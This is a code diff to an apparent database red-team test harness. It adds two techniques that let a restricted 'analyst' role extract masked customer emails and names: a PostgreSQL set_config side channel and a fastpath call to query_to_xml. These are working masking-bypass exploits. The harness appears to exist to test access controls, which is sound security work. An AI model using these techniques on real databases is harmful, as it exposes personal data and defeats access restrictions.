@@ -1422,6 +1422,30 @@ def t_shared_account_set_config(ctx: Ctx) -> None:
         ctx.q(c, f"SELECT current_setting('rt2.v{a}')")
 
 
+@technique("rows")
+def t_analyst_set_config(ctx: Ctx) -> None:
+    """The analyst (masked contact data): the set_config side channel carries the unmasked
+    values, the WHERE clause being false for every row."""
+    ctx.out.analyst = True
+    c = ctx.connect(sdb.ANALYST)
+    for a in range(1, N_ALL, 1100):
+        ctx.q(c, f"SELECT customer_id FROM customers WHERE customer_id BETWEEN {a} AND {a + 1099} "
+                 f"AND set_config('rt2.v{a}', coalesce(current_setting('rt2.v{a}', true), '') || ',' "
+                 "|| \"Email\" || ' ' || \"FullName\", false) IS NULL")  # fmt: skip
+        ctx.q(c, f"SELECT current_setting('rt2.v{a}')")
+
+
+@technique("rows")
+def t_analyst_fastpath(ctx: Ctx) -> None:
+    """The analyst: query_to_xml called through the protocol's FunctionCall message."""
+    ctx.out.analyst = True
+    c = ctx.connect(sdb.ANALYST)
+    r = ctx.q(c, "SELECT 'query_to_xml(text,bool,bool,text)'::regprocedure::oid")
+    if r:
+        _fastpath_call(ctx, c, int(r[0][0]), [
+            "SELECT \"Email\", \"FullName\" FROM crm.customers WHERE tier = 'vip'", "t", "f", ""])  # fmt: skip
+
+
 # -- the analyst: masked contact data ------------------------------------------------------
 
 
